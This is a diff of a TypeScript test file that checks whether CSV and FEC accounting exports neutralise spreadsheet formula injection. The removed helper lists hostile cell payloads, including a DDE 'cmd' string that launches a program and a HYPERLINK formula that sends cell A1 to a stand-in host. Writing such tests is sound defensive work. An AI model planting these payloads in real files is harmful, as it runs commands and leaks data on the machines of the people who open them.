@@ -14,14 +14,14 @@ import {
   fecAnnexe,
   fecShape,
   type Shape,
-} from '../../src/cli/export-shapes.ts';
+} from '../../src/workers/exports/shapes.ts';
 import type { Session } from '../../src/cli/session.ts';
 import type { CurrencyCode } from '../../src/domain/currency.ts';
 import type { BookLine } from '../../src/ledger/queries/book-line.ts';
 import type { ExportedAllocation } from '../../src/ledger/queries/export-allocations.ts';
 import type { CashEvent } from '../../src/ledger/queries/export-cash-events.ts';
 import { day } from '../support/books.ts';
-import { random } from '../support/random.ts';
+import { formulaPayloads } from '../support/formula-payloads.ts';
 import { silentOutput } from '../support/work.ts';
 
 const bookLine: BookLine = {
@@ -89,23 +89,6 @@ const cashEvent: CashEvent = {
   ],
 };
 
-/** 200 texts that a spreadsheet would run, or that would leave their cell. */
-function payloads(): readonly string[] {
-  const dice = random('payloads');
-  const beginnings = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', "'=", "''+", '\r\n='];
-  const bodies = [
-    "cmd|' /C calc'!A0",
-    'HYPERLINK("http://x.example/?l="&A1,"ok")',
-    '1+1',
-    'SUM(1,2)*3',
-    '"";=1',
-    'é|\t;,"\n=2',
-    '',
-    '12,50',
-  ];
-  return Array.from({ length: 200 }, () => `${dice.pick(beginnings)}${dice.pick(bodies)}${dice.below(1_000)}`);
-}
-
 /** As docs/formats/postings-export.md tells a reader that is no spreadsheet. */
 const unguarded = (cell: string): string => (/^'+[=+\-@\t\r\n\0＝＋－＠]/.test(cell) ? cell.slice(1) : cell);
 
@@ -124,7 +107,7 @@ describe('a CSV for people who open it in a spreadsheet', () => {
       const names = parseCsv(shape.heading)[0]?.map(camelCase) ?? [];
       const texts = names.filter((name) => name in row && !(others as readonly string[]).includes(name));
       expect(texts.length).toBeGreaterThan(8);
-      for (const payload of payloads()) {
+      for (const payload of formulaPayloads(200)) {
         const hostile = Object.fromEntries(texts.map((name) => [name, payload]));
         const cells = parseCsv(shape.line({ ...row, ...hostile }))[0] ?? [];
         for (const name of texts) {
@@ -158,7 +141,7 @@ describe('the shape of the FEC', () => {
   });
 
   test('keeps texts without a prefix, and nothing in them ends a field', () => {
-    for (const payload of payloads()) {
+    for (const payload of formulaPayloads(200)) {
       const fields = fieldsOf(
         fecShape.line({ ...bookLine, customerName: payload, reference: payload, label: payload }),
       );
@@ -218,7 +201,7 @@ describe('an export that loses its connection', () => {
     query: async () => ({ rows: [{ id: 1 }] }),
     connect: async () => new LeavingClient(),
   } as unknown as Pool;
-  const session = { context: { pool } } as unknown as Session;
+  const session = { context: { pool, now: () => new Date(0) } } as unknown as Session;
   const options = { ledger: 'main', after: '0' };
 
   test('says so, and writes no row twice', async () => {
